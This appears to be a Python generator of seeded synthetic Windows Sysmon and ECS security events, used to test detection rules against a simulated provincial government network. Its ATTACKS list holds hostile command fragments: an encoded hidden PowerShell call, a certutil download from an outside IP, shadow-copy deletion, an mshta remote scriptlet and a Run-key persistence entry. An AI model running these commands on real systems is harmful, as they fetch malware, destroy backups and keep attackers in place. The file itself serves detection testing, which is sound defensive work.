"""Events to measure rules on: process creation as a quiet Windows estate makes it, and firewall, proxy, DNS, mail and antivirus events in ECS.

Seeded: the same each time. Of process events 95 % are desktop and server noise, 4.7 % administrators' tools, 0.3 % attacks; their command
lines mostly do not repeat, which is what makes matching them hard.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

SEED = 20261120
SYSTEM = "C:\\Windows\\System32\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
EXPLORER = "C:\\Windows\\explorer.exe"
RENDERER = " --type=renderer --lang=vi --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=%d --launch-time-ticks=9%d --field-trial-handle=1812,i,%d,262144"
TOOLS = [
    *(
        SYSTEM + name
        for name in ["cmd.exe", "svchost.exe", "rundll32.exe", "conhost.exe", "WindowsPowerShell\\v1.0\\powershell.exe", "reg.exe", "net.exe", "schtasks.exe"]
    ),
    *(
        SYSTEM + name
        for name in ["wbem\\WMIC.exe", "taskhostw.exe", "sc.exe", "certutil.exe", "mshta.exe", "regsvr32.exe", "whoami.exe", "ipconfig.exe", "dllhost.exe"]
    ),
    CHROME,
    WORD,
    EDGE,
    "C:\\Users\\canbo\\AppData\\Local\\Temp\\setup.exe",
    EXPLORER,
    "C:\\Program Files\\UniKey\\UniKeyNT.exe",
]
ARGUMENTS = [
    "",
    " -k netsvcs -p -s Schedule",
    " /c dir C:\\Users\\%d",
    RENDERER,
    " -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup_%d.ps1",
    " query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    " user /domain",
    " /create /tn Update%d /tr C:\\tools\\a.exe /sc daily",
    " 0xffffffff -ForceV1",
    " /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    " shell32.dll,Control_RunDLL",
    ' /n "C:\\Users\\canbo\\Documents\\Bao cao %d.docx" /o ""',
]
ATTACKS = [
    " -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    " -urlcache -split -f http://45.1.2.3/a.exe C:\\Users\\Public\\a.exe",
    " /c vssadmin delete shadows /all /quiet",
    ' javascript:a=GetObject("script:http://x/y.sct")',
    " add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /t REG_SZ /d C:\\Users\\Public\\u.exe",
]
NOISE = [
    (SYSTEM + "svchost.exe", SYSTEM + "services.exe", " -k netsvcs -p -s W%dSvc"),
    (SYSTEM + "svchost.exe", SYSTEM + "services.exe", " -k LocalServiceNetworkRestricted -p -s S%d"),
    (SYSTEM + "taskhostw.exe", SYSTEM + "svchost.exe", " Task%d"),
    (SYSTEM + "backgroundTaskHost.exe", SYSTEM + "svchost.exe", " -ServerName:App.AppX%d.mca"),
    (SYSTEM + "dllhost.exe", SYSTEM + "svchost.exe", " /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59%d}"),
    (SYSTEM + "conhost.exe", SYSTEM + "svchost.exe", " 0x4"),
    (CHROME, EXPLORER, " --lang=vi"),
    (CHROME, CHROME, RENDERER),
    (CHROME, CHROME, RENDERER),
    (CHROME, CHROME, " --type=utility --utility-sub-type=network.mojom.NetworkService --lang=vi --mojo-platform-channel-handle=%d /prefetch:%d"),
    (EDGE, EDGE, RENDERER),
    (WORD, EXPLORER, ARGUMENTS[11]),
    ("C:\\Program Files\\UniKey\\UniKeyNT.exe", EXPLORER, ""),
    ("C:\\Program Files\\VNPT\\iOffice\\ioffice.exe", EXPLORER, " --doc=%d --user cb%d"),
]
USERS = ["NT AUTHORITY\\SYSTEM", "TINH\\canbo", "TINH\\quantri", "NT AUTHORITY\\NETWORK SERVICE", "root"]
APPS = {"HTTPS": 443, "HTTP": 80, "DNS": 53, "SSH": 22, "SMB": 445, "RDP": 3389, "NTP": 123, "QUIC": 443, "SMTP": 25, "LDAP": 389}
HOSTS = [
    "www.google.com",
    "dantri.com.vn",
    "vnexpress.net",
    "update.microsoft.com",
    "dichvucong.gov.vn",
    "cdn.jsdelivr.net",
    "zalo.me",
    "login-office365.top",
    "pastebin.com",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "curl/8.5.0",
    "Microsoft-CryptoAPI/10.0",
    "Windows-Update-Agent/10.0.10011.16384",
]
PATHS = ["/", "/index.html", "/api/v1/users?id=%d", "/static/js/app.%d.js", "/login.php", "/search?q=thu+tuc+%d", "/download/file_%d.exe", "/img/%d.png"]
VIRUSES = ["W32/Agent.TQ!tr", "JS/Phish.ADL!tr", "HTML/Phishing.B5D6!phish", "EICAR_TEST_FILE"]


def process_events(count: int) -> Iterator[dict[str, Any]]:
    """Sysmon process creation (event 1), fields as Sigma names them."""
    draw = random.Random(SEED)
    for number in range(count):
        kind = draw.random()
        image, parent, tail = draw.choice(NOISE)
        if kind > 0.95:
            image, parent = draw.choice(TOOLS), draw.choice((SYSTEM + "cmd.exe", EXPLORER, SYSTEM + "services.exe"))
            tail = draw.choice(ARGUMENTS if kind < 0.997 else ATTACKS)
        tail = _numbered(tail, draw)
        name = image.rsplit("\\", 1)[-1]
        yield {
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "UtcTime": f"2026-11-20 08:{number // 60 % 60:02d}:{number % 60:02d}.{draw.randrange(1000):03d}",
            "ProcessGuid": f"{{{draw.getrandbits(32):08X}-1234-68E7-{draw.getrandbits(16):04X}-000000003500}}",
            "ProcessId": draw.randrange(4, 30_000),
            "Image": image,
            "FileVersion": f"10.0.19041.{draw.randrange(4000)}",
            "Description": name.split(".")[0] + " process",
            "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": name,
            "CommandLine": (f'"{image}"' if " " in image else image) + tail,
            "CurrentDirectory": draw.choice((SYSTEM, "C:\\Users\\canbo\\", "/root/")),
            "User": draw.choice(USERS),
            "LogonId": f"0x{draw.getrandbits(24):x}",
            "TerminalSessionId": draw.randrange(3),
            "IntegrityLevel": draw.choice(("System", "Medium", "High")),
            "Hashes": f"MD5={draw.getrandbits(128):032X},SHA256={draw.getrandbits(256):064X},IMPHASH={draw.getrandbits(128):032X}",
            "ParentProcessId": draw.randrange(4, 30_000),
            "ParentImage": parent,
            "ParentCommandLine": parent + draw.choice((" -k netsvcs -p", "", f" --lang=vi --id={draw.randrange(1000)}")),
            "ParentUser": draw.choice(USERS),
            "Computer": f"PC-{draw.randrange(1200):04d}.tinh.local",
        }


def soc_events(count: int) -> Iterator[dict[str, Any]]:
    """Flat ECS events as the parsers write them: 60 % firewall, 20 % proxy, 10 % DNS, 8 % mail, 2 % antivirus; with the raw line in `event.original`."""
    draw = random.Random(SEED)
    for _ in range(count):
        kind = draw.random()
        inside = f"10.{draw.randrange(20, 60)}.{draw.randrange(256)}.{draw.randrange(1, 255)}"
        outside = f"{draw.choice((1, 8, 14, 27, 103, 113, 171, 203))}.{draw.randrange(256)}.{draw.randrange(256)}.{draw.randrange(1, 255)}"
        host = draw.choice(HOSTS)
        event: dict[str, Any]
        if kind < 0.6:
            app = draw.choice(list(APPS))
            event = {"soc.kind": "firewall", "event.module": "fortinet", "fortinet.firewall.type": "traffic", "fortinet.firewall.subtype": "forward"}
            event |= {"source.ip": inside, "source.port": draw.randrange(1024, 65_535), "destination.ip": outside, "destination.port": APPS[app]}
            event |= {"event.action": draw.choice(("accept", "deny", "close")), "network.protocol": app.lower(), "rule.id": str(draw.randrange(120))}
            event |= {"source.bytes": draw.randrange(10**6), "observer.name": f"FW-{draw.randrange(12):02d}", "event.category": ["network"]}
        elif kind < 0.8:
            path = _numbered(draw.choice(PATHS), draw)
            event = {
                "soc.kind": "web",
                "event.module": "squid",
                "source.ip": inside,
                "destination.ip": outside,
                "url.domain": host,
                "url.original": f"https://{host}{path}",
            }
            event |= {
                "url.path": path.partition("?")[0],
                "url.query": path.partition("?")[2] or None,
                "http.request.method": draw.choice(("GET", "POST", "CONNECT")),
            }
            event |= {
                "user_agent.original": draw.choice(AGENTS),
                "http.response.status_code": draw.choice((200, 302, 404, 403)),
                "http.response.bytes": draw.randrange(10**6),
            }
        elif kind < 0.9:
            name = draw.choice(("", f"a{draw.randrange(9999)}.")) + host
            event = {"soc.kind": "dns", "event.module": "bind", "source.ip": inside, "dns.question.name": name}
            event |= {"dns.question.type": draw.choice(("A", "AAAA", "TXT")), "dns.resolved_ip": [outside]}
        elif kind < 0.98:
            event = {"soc.kind": "mail", "event.module": "postfix", "source.ip": outside, "email.from.address": [f"user{draw.randrange(9000)}@gmail.com"]}
            event |= {"email.to.address": [f"cb{draw.randrange(8023)}@tinh.gov.vn"], "email.subject": f"Báo cáo tuần {draw.randrange(500)}"}
            event |= {"event.action": draw.choice(("delivered", "spam", "infected")), "email.message_id": f"<{draw.getrandbits(64):x}@gmail.com>"}
        else:
            event = {"soc.kind": "endpoint", "event.module": "fortinet", "fortinet.firewall.type": "utm", "fortinet.firewall.subtype": "virus"}
            event |= {"threat.indicator.name": draw.choice(VIRUSES), "file.path": f"C:\\Users\\canbo\\Downloads\\inv{draw.randrange(999)}.exe"}
        yield {**event, "event.original": " ".join(f'{field}="{value}"' for field, value in event.items())}


def _numbered(text: str, draw: random.Random) -> str:
    while "%d" in text:
        text = text.replace("%d", str(draw.randrange(1_000_000)), 1)
    return text
